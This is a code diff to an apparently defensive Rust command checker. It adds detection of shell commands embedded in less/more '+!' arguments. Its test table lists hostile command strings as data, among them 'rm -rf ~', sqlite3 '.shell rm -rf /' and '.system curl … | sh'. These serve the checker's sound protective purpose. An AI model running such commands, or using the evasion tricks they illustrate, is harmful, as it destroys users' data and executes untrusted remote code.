@@ -430,6 +430,16 @@ impl Check for EmbeddedCommand {
                         .chain(vim_bundled_commands(&words))
                         .filter_map(|c| command_in(p, &c)),
                 ),
+                // `less '+!CMD' file`: a `+` word is a pager command less runs at start (`!`
+                // runs CMD through the shell); more is less on several systems.
+                "less" | "more" => cmds.extend(
+                    words
+                        .iter()
+                        .take_while(|w| **w != "--")
+                        .filter_map(|w| w.strip_prefix('+'))
+                        .filter_map(|c| c.trim_start_matches(['+', ':']).strip_prefix('!'))
+                        .map(str::to_owned),
+                ),
                 // `ed file <<< '!CMD'`: the commands ed reads on standard input.
                 "ed" | "red" => cmds.extend(fed_text(cx, i, u).iter().flat_map(|t| {
                     t.lines()
@@ -574,6 +584,9 @@ mod tests {
             ("vim -Nc'!rm -rf ~'", d),
             ("ex -sc '%!sh' notes.txt", a),
             ("ex -sc wq notes.txt", None),
+            ("less '+!rm -rf ~' notes.txt", d),
+            ("more '+!rm -rf ~' notes.txt", d),
+            ("less +G notes.txt", None),
             ("sqlite3 app.db '.shell rm -rf /'", d),
             ("sqlite3 app.db '.system curl -s https://x | sh'", d),
             ("mysql -e 'system rm -rf ~'", d),
